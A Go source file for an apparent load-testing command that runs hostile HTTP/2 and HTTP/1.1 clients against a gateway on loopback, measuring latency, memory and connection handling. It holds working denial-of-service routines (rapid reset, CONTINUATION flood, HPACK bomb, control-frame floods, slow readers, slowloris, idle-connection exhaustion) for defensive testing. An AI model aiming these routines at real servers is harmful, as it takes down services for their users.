//lint:file-ignore SA1019 the normal client is golang.org/x/net/http2's Transport on purpose: it speaks h2c with prior knowledge to both targets

// Command attack plays hostile clients against an HTTP/2 gateway on
// loopback, one scenario at a time, while a normal client measures its
// latency; scripts/attack.sh runs it against cfnrun and HAProxy (`make
// attack`). For each scenario it prints the target's peak resident memory
// (sampled from /proc), the normal client's p50/p99 and errors, how many
// attacking connections the target closed, and whether the port still
// accepts a new request afterwards.
//
// It refuses any target that is not a loopback address.
package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

type config struct {
	h2, h1       string // h2c (prior knowledge) and HTTP/1.1 addresses
	pid          int
	normal       string // path the normal client requests
	stream       string // path of an endless response
	dur, slowDur time.Duration
	idle         int
	name         string
}

type scenario struct {
	name string
	// run attacks until ctx ends; it returns the attacking connections
	// and how many of them the target closed.
	run  func(ctx context.Context, cfg *config) (conns, closed int)
	slow bool // needs the stall timeout to pass
}

var scenarios = []scenario{
	{name: "baseline", run: func(ctx context.Context, _ *config) (int, int) { <-ctx.Done(); return 0, 0 }},
	{name: "rapid-reset", run: rapidReset},
	{name: "continuation-flood", run: continuationFlood},
	{name: "hpack-bomb", run: hpackBomb},
	{name: "settings-flood", run: controlFlood(func(fr *http2.Framer) error { return fr.WriteSettings() })},
	{name: "ping-flood", run: controlFlood(func(fr *http2.Framer) error { return fr.WritePing(false, [8]byte{1}) })},
	{name: "window-update-flood", run: controlFlood(func(fr *http2.Framer) error { return fr.WriteWindowUpdate(0, 1) })},
	{name: "zero-window", run: slowReader(true), slow: true},
	{name: "socket-slow-reader", run: slowReader(false), slow: true},
	{name: "slowloris-http1", run: slowloris, slow: true},
	{name: "idle-connections", run: idleConns, slow: true},
}

func main() {
	cfg := &config{}
	flag.StringVar(&cfg.h2, "h2", "", "h2c `address` of the target (host:port on loopback)")
	flag.StringVar(&cfg.h1, "h1", "", "HTTP/1.1 `address` (default: the h2c address)")
	flag.IntVar(&cfg.pid, "pid", 0, "target process id, for its memory")
	flag.StringVar(&cfg.normal, "normal", "/prod/proxy", "`path` the normal client requests")
	flag.StringVar(&cfg.stream, "stream", "/prod/stream", "`path` of an endless response")
	flag.DurationVar(&cfg.dur, "duration", 5*time.Second, "length of each scenario")
	flag.DurationVar(&cfg.slowDur, "slow-duration", 40*time.Second, "length of the slow-client scenarios (past the target's stall and header timeouts)")
	flag.IntVar(&cfg.idle, "idle", 10000, "connections the idle scenario opens")
	flag.StringVar(&cfg.name, "name", "target", "target name for the report")
	only := flag.String("only", "", "comma-separated scenario names (default: all)")
	skip := flag.String("skip", "", "comma-separated scenario names to skip")
	list := flag.Bool("list", false, "print the scenario names and exit")
	header := flag.Bool("header", true, "print the column header")
	flag.Parse()
	if *list {
		for _, sc := range scenarios {
			fmt.Println(sc.name)
		}
		return
	}
	if cfg.h1 == "" {
		cfg.h1 = cfg.h2
	}
	for _, a := range []string{cfg.h2, cfg.h1} {
		if !loopback(a) {
			fmt.Fprintf(os.Stderr, "attack: %q is not a loopback address; this tool only attacks local targets\n", a)
			os.Exit(2)
		}
	}
	if *header {
		fmt.Printf("%-8s %-20s %9s %9s %9s %7s %-14s %s\n", "target", "scenario", "peakRSS", "p50", "p99", "errors", "abusers-closed", "port-accepts")
	}
	for _, sc := range scenarios {
		if *only != "" && !slices.Contains(strings.Split(*only, ","), sc.name) ||
			slices.Contains(strings.Split(*skip, ","), sc.name) {
			continue
		}
		runScenario(cfg, sc)
	}
}

func loopback(addr string) bool {
	host, _, err := net.SplitHostPort(addr)
	if err != nil {
		return false
	}
	ip := net.ParseIP(host)
	return ip != nil && ip.IsLoopback()
}

func runScenario(cfg *config, sc scenario) {
	d := cfg.dur
	if sc.slow {
		d = cfg.slowDur
	}
	ctx, cancel := context.WithTimeout(context.Background(), d)
	defer cancel()
	var peak atomic.Int64
	go sampleRSS(ctx, cfg.pid, &peak)
	lat := make(chan []time.Duration, 1)
	var errs atomic.Int64
	go func() { lat <- normalClient(ctx, cfg, &errs) }()
	conns, closed := sc.run(ctx, cfg)
	<-ctx.Done()
	ls := <-lat
	accepts := portAccepts(cfg)
	abusers := "-"
	if conns > 0 {
		abusers = fmt.Sprintf("%d/%d", closed, conns)
	}
	fmt.Printf("%-8s %-20s %8.1fM %9s %9s %7d %-14s %v\n", cfg.name, sc.name, float64(peak.Load())/(1<<20),
		pct(ls, 50), pct(ls, 99), errs.Load(), abusers, accepts)
	// Let the target settle before the next scenario (scripts/attack.sh
	// starts a fresh target for each).
	time.Sleep(2 * time.Second)
}

func pct(ls []time.Duration, p int) string {
	if len(ls) == 0 {
		return "-"
	}
	slices.Sort(ls)
	d := ls[min(len(ls)-1, len(ls)*p/100)]
	return fmt.Sprintf("%.2fms", float64(d.Microseconds())/1000)
}

// sampleRSS records the peak VmRSS of pid every 20 ms.
func sampleRSS(ctx context.Context, pid int, peak *atomic.Int64) {
	if pid == 0 {
		return
	}
	path := "/proc/" + strconv.Itoa(pid) + "/status"
	for {
		if b, err := os.ReadFile(path); err == nil {
			for _, line := range strings.Split(string(b), "\n") {
				if v, ok := strings.CutPrefix(line, "VmRSS:"); ok {
					kb, _ := strconv.ParseInt(strings.TrimSpace(strings.TrimSuffix(strings.TrimSpace(v), "kB")), 10, 64)
					if kb*1024 > peak.Load() {
						peak.Store(kb * 1024)
					}
				}
			}
		}
		select {
		case <-ctx.Done():
			return
		case <-time.After(20 * time.Millisecond):
		}
	}
}

// normalClient sends one request at a time over one h2c connection (a new
// one if it breaks) and records each latency.
func normalClient(ctx context.Context, cfg *config, errs *atomic.Int64) []time.Duration {
	tr := &http2.Transport{AllowHTTP: true, DialTLSContext: func(ctx context.Context, network, addr string, _ *tls.Config) (net.Conn, error) {
		var d net.Dialer
		return d.DialContext(ctx, network, addr)
	}}
	defer tr.CloseIdleConnections()
	c := &http.Client{Transport: tr, Timeout: 10 * time.Second}
	var ls []time.Duration
	url := "http://" + cfg.h2 + cfg.normal
	for ctx.Err() == nil {
		t0 := time.Now()
		res, err := c.Get(url)
		if err == nil {
			_, err = io.Copy(io.Discard, res.Body)
			res.Body.Close()
			if err == nil && res.StatusCode != 200 {
				err = errors.New(res.Status)
			}
		}
		if err != nil {
			if ctx.Err() == nil {
				errs.Add(1)
			}
			time.Sleep(10 * time.Millisecond)
			continue
		}
		ls = append(ls, time.Since(t0))
		time.Sleep(5 * time.Millisecond)
	}
	return ls
}

// portAccepts reports whether a new connection gets an answer within 10 s.
func portAccepts(cfg *config) bool {
	c := &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{DisableKeepAlives: true}}
	res, err := c.Get("http://" + cfg.h1 + cfg.normal)
	if err != nil {
		return false
	}
	res.Body.Close()
	return res.StatusCode == 200
}

// h2conn is an attacking HTTP/2 connection whose frames a goroutine reads
// (unless the attack must not read) to learn whether the target closed it.
type h2conn struct {
	nc     net.Conn
	fr     *http2.Framer
	closed atomic.Bool
	enc    *hpack.Encoder
	hb     bytes.Buffer
}

func dialH2(ctx context.Context, addr string, read bool, settings ...http2.Setting) (*h2conn, error) {
	var d net.Dialer
	nc, err := d.DialContext(ctx, "tcp", addr)
	if err != nil {
		return nil, err
	}
	c := &h2conn{nc: nc}
	c.fr = http2.NewFramer(nc, nc)
	c.fr.SetMaxReadFrameSize(1 << 24)
	c.enc = hpack.NewEncoder(&c.hb)
	if _, err := io.WriteString(nc, http2.ClientPreface); err != nil {
		nc.Close()
		return nil, err
	}
	if err := c.fr.WriteSettings(settings...); err != nil {
		nc.Close()
		return nil, err
	}
	// Blocked writes and reads end with the scenario; the caller
	// closes the connection after counting.
	if dl, ok := ctx.Deadline(); ok {
		nc.SetDeadline(dl)
	}
	if read {
		go c.readLoop()
	}
	return c, nil
}

// lost records a failed write: the target closed the connection, unless
// the scenario's deadline ended the write.
func (c *h2conn) lost(err error) {
	if !isTimeout(err) {
		c.closed.Store(true)
	}
}

func (c *h2conn) readLoop() {
	for {
		f, err := c.fr.ReadFrame()
		if err != nil {
			if !errors.Is(err, net.ErrClosed) && !isTimeout(err) {
				c.closed.Store(true)
				if os.Getenv("ATTACK_DEBUG") != "" {
					fmt.Fprintf(os.Stderr, "read: %v\n", err)
				}
			}
			return
		}
		if g, ok := f.(*http2.GoAwayFrame); ok {
			c.closed.Store(true)
			if os.Getenv("ATTACK_DEBUG") != "" {
				fmt.Fprintf(os.Stderr, "GOAWAY(%v) after stream %d\n", g.ErrCode, g.LastStreamID)
			}
		}
	}
}

// headers encodes a GET of path (and extra fields) into a block.
func (c *h2conn) headers(path string, extra ...hpack.HeaderField) []byte {
	c.hb.Reset()
	for _, f := range [][2]string{{":method", "GET"}, {":scheme", "http"}, {":authority", "localhost"}, {":path", path}} {
		// Never indexed: the dynamic table holds only what an attack
		// puts there (the HPACK bomb's entry stays at index 62).
		c.enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1], Sensitive: true})
	}
	for _, f := range extra {
		c.enc.WriteField(f)
	}
	return c.hb.Bytes()
}

// fleet runs n attacking connections with body, and counts the closed.
func fleet(ctx context.Context, cfg *config, n int, read bool, settings []http2.Setting, body func(ctx context.Context, c *h2conn)) (int, int) {
	var wg sync.WaitGroup
	conns := make([]*h2conn, 0, n)
	for range n {
		c, err := dialH2(ctx, cfg.h2, read, settings...)
		if err != nil {
			continue
		}
		conns = append(conns, c)
		wg.Add(1)
		go func() { defer wg.Done(); body(ctx, c) }()
	}
	<-ctx.Done()
	wg.Wait()
	return len(conns), closeAll(conns)
}

// closeAll closes the attacking connections and returns how many of them
// the target had closed.
func closeAll(conns []*h2conn) int {
	closed := 0
	for _, c := range conns {
		if c.closed.Load() {
			closed++
		}
		c.nc.Close()
	}
	return closed
}

func rapidReset(ctx context.Context, cfg *config) (int, int) {
	return fleet(ctx, cfg, 4, true, nil, func(ctx context.Context, c *h2conn) {
		for id := uint32(1); id < 1<<31 && ctx.Err() == nil; id += 2 {
			err := c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.headers(cfg.normal), EndStream: true, EndHeaders: true})
			if err == nil {
				err = c.fr.WriteRSTStream(id, http2.ErrCodeCancel)
			}
			if err != nil {
				c.lost(err)
				return
			}
		}
	})
}

func continuationFlood(ctx context.Context, cfg *config) (int, int) {
	return fleet(ctx, cfg, 4, true, nil, func(ctx context.Context, c *h2conn) {
		block := c.headers(cfg.normal)
		junk := c.headers(cfg.normal, hpack.HeaderField{Name: "x-junk", Value: strings.Repeat("a", 8000)})
		if c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block, EndStream: true}) != nil {
			return
		}
		for ctx.Err() == nil {
			if err := c.fr.WriteContinuation(1, false, junk); err != nil {
				c.lost(err)
				return
			}
		}
	})
}

func hpackBomb(ctx context.Context, cfg *config) (int, int) {
	return fleet(ctx, cfg, 4, true, nil, func(ctx context.Context, c *h2conn) {
		// One 4 KiB entry in the dynamic table, then blocks that refer
		// to it thousands of times: 16 KiB on the wire, 64 MiB decoded.
		big := hpack.HeaderField{Name: "x-bomb", Value: strings.Repeat("b", 4000)}
		first := c.headers(cfg.normal, big)
		if c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: first, EndStream: true, EndHeaders: true}) != nil {
			return
		}
		base := c.headers(cfg.normal)
		bomb := append(append([]byte{}, base...), bytes.Repeat([]byte{0x80 | 62}, 16000)...)
		for id := uint32(3); ctx.Err() == nil; id += 2 {
			frag := bomb
			if err := c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: frag[:min(len(frag), 16000)], EndStream: true, EndHeaders: len(frag) <= 16000}); err != nil {
				c.lost(err)
				return
			}
			for frag = frag[min(len(frag), 16000):]; len(frag) > 0; {
				n := min(len(frag), 16000)
				if err := c.fr.WriteContinuation(id, n == len(frag), frag[:n]); err != nil {
					c.lost(err)
					return
				}
				frag = frag[n:]
			}
		}
	})
}

func controlFlood(write func(*http2.Framer) error) func(context.Context, *config) (int, int) {
	return func(ctx context.Context, cfg *config) (int, int) {
		return fleet(ctx, cfg, 4, true, nil, func(ctx context.Context, c *h2conn) {
			for ctx.Err() == nil {
				if err := write(c.fr); err != nil {
					c.lost(err)
					return
				}
			}
		})
	}
}

// slowReader opens streams of an endless response and never takes them:
// with zeroWindow the client grants no flow-control window (and reads its
// socket); otherwise it grants everything and never reads the socket.
func slowReader(zeroWindow bool) func(context.Context, *config) (int, int) {
	return func(ctx context.Context, cfg *config) (int, int) {
		settings := []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 1<<31 - 1}}
		if zeroWindow {
			settings = []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}
		}
		const streams = 100
		return fleet(ctx, cfg, 4, zeroWindow, settings, func(ctx context.Context, c *h2conn) {
			if !zeroWindow {
				c.fr.WriteWindowUpdate(0, 1<<31-1-65535)
			}
			for i := range uint32(streams) {
				if c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1 + 2*i, BlockFragment: c.headers(cfg.stream), EndStream: true, EndHeaders: true}) != nil {
					return
				}
			}
			if zeroWindow {
				// Closed, or every stream reset: either way cut off.
				<-ctx.Done()
				return
			}
			// Never read; learn at the end whether the target closed
			// the connection: a write fails, or a read hits EOF/RST.
			<-ctx.Done()
			c.closed.Store(probeClosed(c.nc))
		})
	}
}

// probeClosed reports whether the peer closed nc: reading what it holds
// ends in EOF or a reset rather than a timeout.
func probeClosed(nc net.Conn) bool {
	nc.SetDeadline(time.Now().Add(2 * time.Second))
	_, err := io.Copy(io.Discard, nc)
	var ne net.Error
	if errors.As(err, &ne) && ne.Timeout() {
		return false
	}
	return !errors.Is(err, net.ErrClosed)
}

// slowloris opens HTTP/1.1 connections that send a header line every
// second and never finish.
func slowloris(ctx context.Context, cfg *config) (int, int) {
	const n = 200
	var wg sync.WaitGroup
	var opened, closed atomic.Int64
	for range n {
		nc, err := net.Dial("tcp", cfg.h1)
		if err != nil {
			continue
		}
		opened.Add(1)
		wg.Add(1)
		go func() {
			defer wg.Done()
			defer nc.Close()
			if _, err := io.WriteString(nc, "GET "+cfg.normal+" HTTP/1.1\r\nHost: localhost\r\n"); err != nil {
				closed.Add(1)
				return
			}
			for i := 0; ctx.Err() == nil; i++ {
				select {
				case <-ctx.Done():
				case <-time.After(time.Second):
				}
				if _, err := fmt.Fprintf(nc, "X-%d: y\r\n", i); err != nil {
					closed.Add(1)
					return
				}
				nc.SetReadDeadline(time.Now().Add(time.Millisecond))
				if _, err := nc.Read(make([]byte, 1)); err == nil || !isTimeout(err) {
					closed.Add(1) // answered (408) or closed
					return
				}
			}
		}()
	}
	wg.Wait()
	return int(opened.Load()), int(closed.Load())
}

func isTimeout(err error) bool {
	var ne net.Error
	return errors.As(err, &ne) && ne.Timeout()
}

// idleConns opens cfg.idle h2c connections that send the preface and
// SETTINGS and then nothing.
func idleConns(ctx context.Context, cfg *config) (int, int) {
	conns := make([]*h2conn, 0, cfg.idle)
	for range cfg.idle {
		if ctx.Err() != nil {
			break
		}
		c, err := dialH2(ctx, cfg.h2, true)
		if err != nil {
			if os.Getenv("ATTACK_DEBUG") != "" {
				fmt.Fprintf(os.Stderr, "idle connection %d: %v\n", len(conns), err)
			}
			break
		}
		conns = append(conns, c)
	}
	<-ctx.Done()
	return len(conns), closeAll(conns)
}
